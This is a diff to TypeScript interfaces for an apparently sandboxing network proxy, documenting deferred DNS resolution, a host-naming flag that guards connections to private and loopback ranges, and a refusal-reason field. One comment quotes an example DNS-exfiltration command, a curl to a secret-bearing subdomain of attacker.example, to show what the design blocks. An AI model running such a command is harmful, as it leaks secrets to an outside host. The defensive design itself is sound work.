@@ -20,7 +20,12 @@ export interface ConnectionRequest {
   port: number;
   /** http: plain HTTP forwarded; https: HTTP CONNECT; socks5_tcp / socks5_udp: SOCKS5 */
   protocol: NetworkProtocol;
-  /** the addresses the proxy resolved `host` to (the proxy connects only to these); [] when `host` is a literal */
+  /**
+   * The addresses the proxy connects to (it connects only to these). At `decide()` a name has none yet: the
+   * proxy resolves a name only after an allow, so a denied name is never looked up (no DNS exfiltration:
+   * `curl http://<secret>.attacker.example` sends nothing anywhere). An IP literal is its own address.
+   * `closed()` reports the addresses resolved and connected to.
+   */
   addresses: string[];
 }
 
@@ -34,6 +39,14 @@ export interface ConnectionVerdict {
   source: VerdictSource;
   /** `file:line` of the deciding network_rule, when a rule decided */
   rule?: string;
+  /**
+   * An allow that names this very host (an exact `network_rule(host=...)`, a config entry of this host, an
+   * approval of this host): not a wildcard (`*.x`, `**.x`), not a default. Only then may the proxy connect
+   * to a loopback, private (RFC 1918, fc00::/7), link-local, CGNAT, unspecified or multicast address, for a
+   * host that is such a literal or whose name resolves there (src/network/address-ranges.ts); otherwise the
+   * proxy refuses after the allow ("<host> resolves to 127.0.0.1 (loopback), which no rule names").
+   */
+  namesHost?: boolean;
 }
 
 /** What a connection carried, reported once when it closes (for the audit record). */
@@ -43,6 +56,10 @@ export interface ConnectionClosed {
   bytesUp: number;
   bytesDown: number;
   durationMs: number;
+  /** why the proxy refused or failed a connection the verdict allowed: the name did not resolve (fails
+   *  closed), it resolved to a local range no rule names, the TLS server name differs from the host, the
+   *  destination refused; absent when it carried data as asked */
+  error?: string;
 }
 
 /**
